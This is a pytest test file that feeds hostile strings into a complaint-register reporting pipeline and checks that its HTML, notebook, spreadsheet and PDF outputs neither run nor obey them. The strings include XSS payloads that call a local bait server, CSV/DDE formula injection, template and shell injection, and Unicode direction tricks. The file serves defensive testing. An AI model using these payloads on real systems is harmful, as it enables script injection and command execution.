"""Hostile texts of a register and of project.yml appear as texts: nothing runs, nothing is asked for, nothing turns."""

from __future__ import annotations

import csv
import html
import json
import re
import shutil
import subprocess
import threading
import time
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from browsing import asked_of_the_network, offline_browser, overflow
from reports import ROOT, SAMPLE, Outcome, call

from pipeline.confidentiality.hits import PLACEHOLDER

pytestmark = [pytest.mark.notebooks, pytest.mark.browser]
LABEL = "2024H1"
LONG = "Ulaanbaatarkhot" * 70_000
"""A word of more than a million letters."""
TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


class Bait:
    """A server on this machine that notes whoever a text may lure to it."""

    def __init__(self) -> None:
        caught: list[str] = []

        class Note(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                caught.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *given: object) -> None:
                """Say nothing on the terminal."""

        self.caught = caught
        self.server = ThreadingHTTPServer(("localhost", 0), Note)
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    @property
    def address(self) -> str:
        return f"http://localhost:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


def hostile(bait: str) -> dict[str, str]:
    """What is written into cells; each says its own name, which must come out as it went in."""
    return {
        "script": f"<script>document.title='pwned';fetch('{bait}/script')</script>",
        "closed": f"</td></table></section></main><script src='{bait}/closed'></script>",
        "handler": f"<img src=x onerror=\"document.title='pwned';fetch('{bait}/handler')\">",
        "handlers": "<svg onload=alert(1)><body onload=alert(2)><details open ontoggle=alert(3)>",
        "quotes": "\" onmouseover=alert(4) x=\"' autofocus onfocus=alert(5) '",
        "link": "<a href='javascript:alert(6)'>javascript link</a> javascript:alert(7)",
        "frame": f"<iframe src='{bait}/frame'></iframe><object data='{bait}/object'></object>",
        "form": f"<form action='{bait}/form'><input type=submit></form>",
        "meta": f"<meta http-equiv=refresh content='0;{bait}/meta'>",
        "base": f"<base href='{bait}/base/'><link rel=stylesheet href='{bait}/link'>",
        "css": f"</style><style>body {{ display: none; background: url({bait}/css) }}</style>",
        "expression": f"<p style=\"width: expression(alert(8)); background: url('{bait}/style')\">styled</p>",
        "comment": "<!-- --!><script>alert(9)</script> ]]> <![CDATA[ x ]]> <?php echo 1 ?>",
        "entities": "&lt;script&gt;alert(10)&lt;/script&gt; &#60;script&#62; &amp;lt;",
        "markdown": f"![picture]({bait}/markdown.png) [text](javascript:alert(11)) <{bait}/auto> `code` **strong**",
        "reference": f"[r]: {bait}/reference 'title' ![r][r]",
        "jinja": "{{7*7}} {% for x in range(9) %}{{ x }}{% endfor %} {{ ''.__class__ }} {# note #} ${7*7} #{7*7}",
        "format": "%(reason)s {0} {received} %s %n {name!r}",
        "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned \n touch pwned",
        "python": "__import__('os').system('touch pwned')",
        "tex": r"\input{/etc/hostname} $$x^2$$ \(y\) \href{javascript:alert(12)}{z}",
        "turned": f"\u202etxet denrut\u202c \u2067turned\u2069 \u200fmark{TURNS}",
        "hidden": "wi\u200bdth\u2060less\ufeff so\u00adft",
        "controls": "bell\x07 back\x08 escape\x1b[31mred\x1b[0m null vertical\x0b form\x0c delete\x7f",
        "formula": "=cmd|' /C calc'!A0",
        "sum": "=SUM(1+1)*cmd|' /C calc'!A0",
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
        "hyperlink": f'=HYPERLINK("{bait}/hyperlink","click")',
        "import": f'=IMPORTXML(CONCAT("{bait}/import?", A1), "//a")',
        "data": "data:text/html,<script>alert(13)</script>",
        "beyond": "\ud7ff \U0001f4a3 \U000e0041 \ufdd0 e\u0301\u0301\u0301\u0301\u0301\u0301",
        "long": LONG,
    }


@dataclass(frozen=True)
class Made:
    """A set made of hostile texts, the bait that stood meanwhile, and where the command ran."""

    outcome: Outcome
    folder: Path
    bait: Bait
    data: Path


def write_register(folder: Path, texts: dict[str, str]) -> None:
    """One grievance a text, with it as summary, action, topic, note and heading of a column that is not known."""
    rows = []
    for number, (name, text) in enumerate(texts.items(), start=1):
        # In a text a handle is replaced; as a topic or a heading it would stop the run.
        word = text.replace("@", "")
        rows.append(
            {
                "registration_no": f"{number}/2024",
                "date_received": "2024-03-05",
                "date_resolved": "2024-03-06" if number % 2 else "",
                "channel": "Email",
                "channel_basis": "stated",
                "type": "Question",
                "status": "Resolved" if number % 2 else "Resolving",
                "responsible": "<u ondrag=zorig()>Zorigtsaikhan</u>",
                "relation": "Related",
                "topic": word[:300],
                "location": word[:300],
                "summary": f"The text {name} begins {text} and ends {name}.",
                "action_taken": text,
                "note": text[:2000],
                "satisfaction": word[:300],
                f"Heading {word[:60]}": "x",
            }
        )
    headings = list(dict.fromkeys(heading for row in rows for heading in row))
    with (folder / "register.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, headings, restval="")
        writer.writeheader()
        writer.writerows(rows)


def write_settings(folder: Path, texts: dict[str, str]) -> None:
    """Put hostile texts where project.yml has labels and standing texts."""
    path = folder / "project.yml"
    text = path.read_text(encoding="utf-8")
    one = json.dumps(" ".join(texts[name] for name in ("script", "handler", "css", "jinja", "turned")))
    two = json.dumps(" ".join(texts[name] for name in ("closed", "markdown", "expression", "entities", "quotes")))
    text = re.sub(r"^name: .*$", lambda _: f"name: {one}", text, flags=re.MULTILINE)
    text = re.sub(
        r"^short_name: .*$", lambda _: f"short_name: {json.dumps(texts['handlers'])}", text, flags=re.MULTILINE
    )
    text = re.sub(r"^implementing_unit: .*$", lambda _: f"implementing_unit: {two}", text, flags=re.MULTILINE)
    text = text.replace("label: E-mail", f"label: {json.dumps('E-mail ' + texts['handler'])}")
    text = text.replace("label: In person", f"label: {json.dumps(texts['formula'])}")
    text = text.replace("purpose:\n", f"purpose:\n    - {one}\n    - {two}\n")
    path.write_text(text, encoding="utf-8")


def write_commentary(folder: Path, texts: dict[str, str]) -> None:
    (folder / "commentary").mkdir()
    shown = [text.replace("{", "(").replace("}", ")") for name, text in texts.items() if name != "long"]
    (folder / "commentary" / f"{LABEL}.md").write_text("\n\n".join(shown), encoding="utf-8")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    base = tmp_path_factory.mktemp("hostile")
    with closing(Bait()) as bait:
        yield make_set(base, bait)


def make_set(base: Path, bait: Bait) -> Made:
    """Write the project and make its report."""
    folder = base / "data" / SAMPLE
    folder.mkdir(parents=True)
    shutil.copy(ROOT / "data" / SAMPLE / "project.yml", folder)
    texts = hostile(bait.address)
    write_register(folder, texts)
    write_settings(folder, texts)
    write_commentary(folder, texts)
    began = time.monotonic()
    outcome = call("report", f"--period={LABEL}", outputs=base / "outputs", data=base / "data", seconds=900)
    assert outcome.code == 0, outcome.stderr
    assert time.monotonic() - began < 600
    return Made(outcome, outcome.set(LABEL), bait, base)


# -- what a browser makes of it ---------------------------------------------------------------------------------------

PAGES = (
    "public/report.html",
    "internal/report-internal.html",
    "internal/actions.html",
    "internal/uptake.html",
    "../index.html",
    "01_cleaning.ipynb",
    "02_classification.ipynb",
    "03_metrics.ipynb",
    "04_report.ipynb",
)
WATCH = """
window.ran = [];
for (const name of ['alert', 'confirm', 'prompt', 'fetch', 'open', 'print'])
  window[name] = (...given) => { window.ran.push(name + ' ' + given.join(' ')); return null; };
"""
PROVOKE = """
const events = ['load', 'error', 'mouseover', 'focus', 'click', 'toggle', 'drag', 'submit', 'animationstart'];
for (const element of document.querySelectorAll('*'))
  if (element.tagName != 'A')
    for (const event of events) element.dispatchEvent(new Event(event, {cancelable: true}));
return window.ran;
"""
FOUND = """
const found = [];
for (const element of document.querySelectorAll('script, iframe, object, embed, form, base, link, audio, video'))
  found.push(element.tagName);
for (const element of document.querySelectorAll('meta[http-equiv=refresh]')) found.push('refresh');
for (const element of document.querySelectorAll('*'))
  for (const {name, value} of element.attributes) {
    if (name.startsWith('on')) found.push(element.tagName + ' ' + name);
    if (['href', 'src', 'xlink:href', 'action', 'background', 'srcset'].includes(name)) {
      const target = value.trim().toLowerCase();
      if (/^(javascript|vbscript|data:(?!image[/](svg|png)))/.test(target)) found.push(target.slice(0, 40));
      if (element.tagName != 'A' && !/^(data:image|#)/.test(target)) found.push(element.tagName + ' ' + target);
    }
    if (name == 'style' && /url\\(|expression/i.test(value)) found.push('style ' + value);
  }
return found;
"""


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A browser that could reach the bait, and notes whatever a page does."""
    with offline_browser(tmp_path_factory.mktemp("browser")) as opened:
        online = {"offline": False, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
        opened.execute_cdp_cmd("Network.emulateNetworkConditions", online)
        opened.execute_cdp_cmd("Page.enable", {})
        opened.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
        yield opened


def page_of(made: Made, name: str) -> Path:
    """Return a page of the set; a notebook is shown as nbconvert shows it, without the scripts of its frame."""
    if not name.endswith(".ipynb"):
        return made.folder / name
    from nbconvert.exporters import HTMLExporter

    body, _ = HTMLExporter(template_name="basic").from_filename(str(made.folder / "internal" / "notebooks" / name))
    page = made.data / f"{name}.html"
    page.write_text(
        f"<!DOCTYPE html><html><head><meta charset=utf-8></head><body>{body}</body></html>", encoding="utf-8"
    )
    return page


@pytest.mark.parametrize("name", PAGES)
def test_nothing_runs_and_nothing_is_asked_for(made: Made, browser: Any, name: str) -> None:
    browser.get(page_of(made, name).resolve().as_uri())
    assert browser.execute_script("return window.ran") == []
    assert browser.execute_script(PROVOKE) == []
    assert browser.execute_script(FOUND) == []
    assert "pwned" not in browser.title or "<script>" in browser.title
    assert browser.execute_script("return getComputedStyle(document.body).display") != "none"
    assert asked_of_the_network(browser) == set()
    assert made.bait.caught == []


def test_the_bait_catches_whoever_asks(made: Made, browser: Any) -> None:
    """The test of the test: a page that is not ours does what the texts try."""
    page = made.data / "lured.html"
    page.write_text(
        f"<img src='{made.bait.address}/x'><p onclick=alert(1)>x</p><script>alert(2)</script>", encoding="utf-8"
    )
    browser.get(page.as_uri())
    assert browser.execute_script("return window.ran") == ["alert 2"]
    assert "alert 1" in browser.execute_script(PROVOKE)
    assert sorted(browser.execute_script(FOUND))[-1] == "SCRIPT"
    assert asked_of_the_network(browser) == {f"{made.bait.address}/x"}
    assert made.bait.caught == ["/x"]
    made.bait.caught.clear()


def plain(text: str) -> str:
    """Return what of a text is written, whatever its blanks and its letters without width."""
    return "".join(c for c in unicodedata.normalize("NFC", text) if unicodedata.category(c)[0] not in "ZC")


def is_written(shown: str, text: str) -> bool:
    """Whether a text is shown as it was written, but for what redaction took for a name or a handle."""
    parts = [re.escape(plain(part)) for part in PLACEHOLDER.split(shown)]
    return re.fullmatch(".{1,40}".join(parts), plain(text)) is not None


def test_every_text_is_there_as_it_was_written(made: Made, browser: Any) -> None:
    browser.get((made.folder / "public" / "report.html").as_uri())
    page = plain(browser.execute_script("return document.body.textContent"))
    with (made.folder / "public" / "cases.csv").open(encoding="utf-8-sig", newline="") as handle:
        csv.field_size_limit(10_000_000)
        rows = {row["registration_no"]: row["summary"] for row in csv.DictReader(handle)}
    replaced = 0
    for number, (name, text) in enumerate(hostile(made.bait.address).items(), start=1):
        shown = rows[f"{number}/2024"]
        assert is_written(shown, f"The text {name} begins {text} and ends {name}."), name
        assert name == "long" or plain(shown) in page, name
        replaced += len(PLACEHOLDER.findall(shown))
    assert replaced <= 5  # @SUM is a handle


def test_a_word_of_a_million_letters_is_cut_and_does_not_widen_the_page(made: Made, browser: Any) -> None:
    browser.get((made.folder / "public" / "report.html").as_uri())
    assert len((made.folder / "public" / "report.html").read_bytes()) < 1_000_000
    assert overflow(browser) <= 0
    shown = browser.execute_script("return document.body.textContent")
    assert LONG[:1000] in shown
    assert LONG not in shown


def test_no_text_turns_the_direction_of_what_stands_beside_it(made: Made) -> None:
    for path in (
        path for path in made.folder.parent.rglob("*") if path.suffix in (".html", ".csv", ".ipynb", ".md", ".json")
    ):
        text = html.unescape(path.read_text(encoding="utf-8"))
        assert not set(TURNS) & set(text), path.name


# -- what other programs make of it -----------------------------------------------------------------------------------


def test_no_cell_of_a_table_is_a_formula(made: Made) -> None:
    csv.field_size_limit(10_000_000)
    for path in made.folder.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        begun = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert [cell[:40] for cell in begun if not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == [], path.name


def test_no_cell_of_a_workbook_is_a_formula_or_leads_outside(made: Made) -> None:
    books = sorted(made.folder.rglob("*.xlsx"))
    assert {"actions.xlsx", "findings.xlsx", "review.xlsx"} <= {path.name for path in books}
    texts = []
    for path in books:
        book = openpyxl.load_workbook(path)
        assert not book.vba_archive
        for sheet in book:
            assert not set(sheet.title) & set("[]:*?/\\")
            for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                assert cell.data_type != "f", (path.name, cell.coordinate)
                assert cell.hyperlink is None or cell.hyperlink.target is None, (path.name, cell.coordinate)
                texts.append(str(cell.value))
    assert any(text.startswith("=cmd|") for text in texts)
    assert any("<script>" in text for text in texts)


def test_the_pdf_holds_the_texts_and_neither_scripts_nor_other_links_than_those_of_the_web(made: Made) -> None:
    from pypdf import PdfReader

    path = made.folder / "public" / "report.pdf"
    content = path.read_bytes()
    for action in (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/GoToR", b"/EmbeddedFile", b"/OpenAction"):
        assert action not in content
    reader = PdfReader(path)
    notes = [note.get_object() for page in reader.pages for note in page.get("/Annots", [])]
    links = [str(note["/A"]["/URI"]) for note in notes if "/URI" in note.get("/A", {})]
    assert [link for link in links if not link.startswith(("http://", "https://", "mailto:"))] == []
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed (Debian: poppler-utils)")
    command = ["pdftotext", "-raw", path, "-"]
    text = plain(subprocess.run(command, capture_output=True, text=True, check=True).stdout)
    for part in (
        "<script>document.title='pwned'",
        "=cmd|'/Ccalc'!A0",
        "{{7*7}}",
        "$(touchpwned)",
        "onerror=",
        "</style>",
    ):
        assert plain(part) in text, part


def test_no_fragment_of_a_shell_or_of_a_template_was_obeyed(made: Made) -> None:
    assert list(made.data.parent.rglob("pwned")) == []
    assert not (ROOT / "pwned").exists()
    for path in made.folder.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert "{{7*7}}" in text or path.name in ("uptake.html", "actions.html"), path.name
        assert "49 012345678" not in text
